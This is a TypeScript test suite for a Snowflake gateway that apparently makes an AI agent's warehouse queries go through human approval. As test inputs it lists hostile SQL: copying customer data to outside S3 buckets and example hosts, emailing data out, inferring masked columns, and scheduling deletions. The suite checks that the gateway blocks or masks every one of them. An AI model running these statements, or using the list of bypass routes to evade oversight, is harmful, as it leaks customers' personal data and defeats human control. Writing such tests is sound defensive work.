import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { after, before, describe, test } from 'node:test'
import type { Connection } from 'snowflake-sdk'
import { approve, ranTexts } from '#test/doors/reviewers.ts'
import { type Stand, standPolicy, startStand } from '#test/stand/stand.ts'
import { login, logout, run, start } from './driver.ts'
import { heldCard } from './held-card.ts'
import { aloneComesTo, neverByItself } from './never-by-itself.ts'

/** Computing with a sensitive column is allowed here, so that its masking is seen; asking about it is held. */
const policy = standPolicy.replace('c.use != "output"', 'c.use in ["filter", "indirect"]')
const setUp = readFileSync('manifests/snowflake.sql', 'utf8')
const promises = readFileSync('.github/SECURITY.md', 'utf8')

/** All that may stand in a cell that comes from a sensitive column. */
const masks = new Set<unknown>([null, '[masked]', 'c***@***.example', '***'])

/** Numbers are those of the list of ways around a gateway, in the order in which the threat model has them. */
describe('Snowflake door: ways around it by what a statement says', { timeout: 300_000 }, () => {
  let stand: Stand
  let connection: Connection
  before(async () => {
    stand = await startStand({ policy, sizes: { customers: 200, orders: 2_000 } })
    await stand.snowflake.database.admin.run(
      `create view "DEMO"."SHOP"."HARMLESS" as select "ID", "EMAIL" as "LABEL" from "DEMO"."SHOP"."CUSTOMERS";
       create table "DEMO"."SHOP"."COPIES" ("ID" integer, "PLAIN" varchar)`,
    )
    connection = await login(stand)
  })
  after(async () => {
    await logout(connection)
    await stand.stop()
  })

  const alone = (sql: string) => aloneComesTo(stand, connection, sql)
  async function neverAlone(...texts: readonly string[]): Promise<void> {
    for (const sql of texts) await neverByItself(stand, connection, sql)
  }
  /** Held, refused, or answered with nothing but masks. */
  async function masked(...texts: readonly string[]): Promise<void> {
    for (const sql of texts) {
      const came = await alone(sql)
      if (typeof came === 'string') continue
      assert.ok(came.rows.length > 0, sql)
      for (const row of came.rows)
        for (const cell of Object.values(row)) assert.ok(masks.has(cell), `${sql}: ${JSON.stringify(row)}`)
    }
  }
  async function approved(sql: string) {
    const { done } = start(connection, sql)
    await approve(stand, await heldCard(stand, sql))
    return done
  }

  test('1: an agent has nothing that opens the warehouse itself', async () => {
    const token = JSON.parse(connection.serialize()).services.sf.tokenInfo.sessionToken
    for (const options of [{}, { token }, { authenticator: 'PROGRAMMATIC_ACCESS_TOKEN', token }])
      await assert.rejects(
        login(stand, { ...options, gateway: stand.snowflake, account: 'acme-prod', username: 'AGENT_GATEWAY' }),
      )
  })

  test('1: the set-up closes every other way to the account', () => {
    for (const part of [
      /NETWORK POLICY .*ALLOWED_IP_LIST = \('<gateway address>\/32'\)/,
      /AUTHENTICATION_METHODS = \('OAUTH'\)/,
      /TYPE = SERVICE\b/,
      /EXTERNAL_OAUTH_ANY_ROLE_MODE = DISABLE/,
    ])
      assert.match(setUp, part)
  })

  test('8: what is computed from a sensitive column is masked, whatever it is called', () =>
    masked(
      'select substr(email, 1, 7) as city from customers limit 2',
      "select 'x' || phone || 'x' as id from customers limit 2",
      'select sha2(email) as checksum from customers limit 2',
      'select cast(email as varchar(7)) as status from customers limit 2',
      'select min(email) as a, max(phone) as b from customers',
      "select listagg(email, ',') as everything from customers",
      'select lag(email) over (order by id) as before from customers limit 2',
      'select first_value(phone) over (partition by city order by id) as one from customers limit 2',
      'select object_construct(*) as o from customers limit 2',
      "select to_json(object_construct('e', email)) as o from customers limit 2",
      'select split_part(email, $$@$$, 1) as name from customers limit 2',
      'select case when id > 0 then email end as nothing from customers limit 2',
      'select e as ordinary from (select email as e from customers) limit 2',
    ))

  test('9: a sensitive column is not asked about, joined on or sorted by without people', () =>
    neverAlone(
      "select count(*) as n from customers where email like 'c000001%'",
      "select id from customers where phone = '+1-202-555-0100'",
      'select id from customers order by email limit 1',
      'select count(*) as n from customers group by substr(card_number, 1, 15)',
      "select sum(case when email < 'c000100' then 1 else 0 end) as n from customers where email < 'c000100'",
      "select c.id from customers c join (select 'c000001.birch@mail.example' as guess) g on c.email = g.guess",
      'select id from customers qualify row_number() over (order by phone) = 1',
      'select id from orders where exists (select 1 from customers c where c.id = customer_id and c.email > $$d$$)',
    ))

  test('10: errors do not tell the values that made them', async () => {
    for (const sql of [
      'select to_number(email) as n from customers',
      'select card_number::date as d from customers where id < 9',
      'select 1 / (length(email) - length(email)) as n from customers',
      'select cast(phone as boolean) as b from customers',
    ]) {
      const { done } = start(connection, sql)
      const message = await done.then(
        ({ rows }) => JSON.stringify(rows.map(row => Object.values(row).filter(cell => !masks.has(cell)))),
        (error: Error) => error.message,
      )
      assert.doesNotMatch(message, /c\d{6}|mail\.example|555-01|4\d{15}/, sql)
    }
  })

  test('11: copies of sensitive columns are made by people alone, and are as sensitive', async () => {
    await neverAlone(
      'create temporary table mine as select email from customers',
      'create table mine clone customers',
      'create view mine as select email from customers',
      'create dynamic table mine target_lag = $$1 minute$$ warehouse = agents as select email from customers',
      'create stream mine on table customers',
      'insert into orders (id, status) select id + 9000000, email from customers',
      'merge into orders o using customers c on o.id = c.id when matched then update set status = c.email',
      'undrop table customers',
    )
    await masked('select email as e from customers at (offset => -60) limit 2')
    await approved('insert into copies (id, plain) select id, email from customers where id < 4')
    await masked('select plain as status from copies')
  })

  test('12: views, functions and procedures do not hide what they read', async () => {
    await masked('select label from harmless limit 3', 'select upper(label) as l from harmless limit 3')
    await neverAlone(
      'select reveal(id) as r from orders limit 1',
      'select * from table(reveal(1))',
      'call reveal(1)',
      'select next_secret.nextval as n',
    )
  })

  test('14: no code, nor what reaches out of the account, comes in by itself', () =>
    neverAlone(
      "create function mine(x string) returns string language javascript as 'return X'",
      "create or replace procedure mine() returns string language sql as 'begin return 1; end'",
      "create external function mine(x string) returns variant api_integration = i as 'https://elsewhere.example'",
      'create api integration mine api_provider = aws_api_gateway enabled = true',
      "select snowflake.cortex.complete('large', email) as c from customers",
      "select ai_complete('large', email) as c from customers",
      'select snowflake.cortex.summarize(name) as c from customers',
      "create streamlit mine root_location = '@x' main_file = 'm.py'",
      'execute notebook mine()',
      'create service mine in compute pool p from specification $$x$$',
    ))

  test('15: nothing is put off until nobody looks', () =>
    neverAlone(
      "create task mine schedule = '1 minute' as delete from orders",
      'execute task mine',
      'alter task mine resume',
      "create alert mine schedule = '1 minute' if (exists (select 1)) then delete from orders",
      'create pipe mine as copy into orders from @x',
      'create event table mine',
      'create materialized view mine as select id from orders',
    ))

  test('16: nothing is taken out of the account', () =>
    neverAlone(
      "copy into 's3://elsewhere/x' from customers",
      'copy into @~/x from (select email from customers)',
      "create stage mine url = 's3://elsewhere/'",
      "create storage integration mine type = external_stage storage_provider = 'S3' enabled = true",
      "select get_presigned_url(@mine, 'x') as u",
      "select build_scoped_file_url(@mine, 'x') as u",
      'select get_stage_location(@mine) as l',
      "call system$send_email('i', 'a@elsewhere.example', 's', 'b')",
      'create notification integration mine type = email enabled = true',
      'create share mine',
      'alter share mine add accounts = elsewhere',
      'create replication group mine object_types = databases allowed_databases = demo allowed_accounts = o.a',
      "create iceberg table mine external_volume = 'v' catalog = 'SNOWFLAKE' base_location = 'x' as select * from customers",
    ))

  test('14 to 16: none of the roles may create, share or reach out, and the set-up says why', () => {
    const grants = Array.from(
      setUp.matchAll(/^GRANT (?<what>.*?)(?: ON (?<on>[A-Z ]+?))? (?:[\w.<>]+ )?TO /gms),
      ({ groups }) => groups,
    )
    const allowed = /^(?:USAGE|SELECT|SELECT, INSERT, UPDATE, DELETE|ROLE)$/
    assert.ok(grants.length > 10)
    for (const grant of grants) assert.match(grant?.what ?? '', allowed)
    for (const [, kind] of setUp.matchAll(/^GRANT USAGE ON (\w+)/gm))
      assert.ok(['WAREHOUSE', 'DATABASE', 'SCHEMA'].includes(kind ?? ''), kind)
    for (const words of [/owner's rights/, /CORTEX_USER/, /RESOURCE MONITOR/, /no CREATE/]) assert.match(setUp, words)
  })

  test('23: a column is masked where it stands, not by its name', async () => {
    for (const sql of [
      'select city, email from customers union all select email, city from customers',
      'select id, email as id from customers order by 1 limit 3',
      'select email as city, city as email from customers limit 3',
      'select * exclude (name, date_of_birth, created_at) from customers limit 3',
      'select c.*, o.status as email from customers c join orders o on o.customer_id = c.id limit 3',
    ]) {
      const { done } = start(connection, sql, { rowMode: 'array' })
      const { rows } = await done
      assert.ok(rows.length > 0, sql)
      assert.doesNotMatch(JSON.stringify(rows), /mail\.example|555-01|4\d{15}/, sql)
    }
  })

  test('24: counts that tell of sensitive rows are asked of people; what else counts tell is not promised', async () => {
    await neverAlone(
      "update orders set status = 'x' where customer_id in (select id from customers where email like 'c000001%')",
      "delete from customers where phone like '+1-202%'",
    )
    assert.match(promises, /Inference through what is allowed: row counts/)
  })

  test('26: what costs much is held or ends in time: warehouses, generators, products of tables', async () => {
    await assert.rejects(run(connection, 'use warehouse huge'), { code: '000002' })
    await neverAlone(
      'alter warehouse agents set warehouse_size = xxxlarge',
      'alter warehouse agents resume',
      'create warehouse mine',
    )
    await run(connection, 'alter session set statement_timeout_in_seconds = 604800')
    for (const sql of [
      'select count(*) as n from table(generator(rowcount => 26))',
      'select count(*) as n from orders a, orders b where a.id < 26',
    ]) {
      await run(connection, sql)
      const { parameters } = stand.snowflake.statements().find(({ sqlText }) => sqlText === sql) ?? {}
      assert.equal(parameters?.STATEMENT_TIMEOUT_IN_SECONDS, 60, sql)
    }
    assert.equal(
      ranTexts(stand).some(text => /warehouse/i.test(text)),
      false,
    )
  })
})
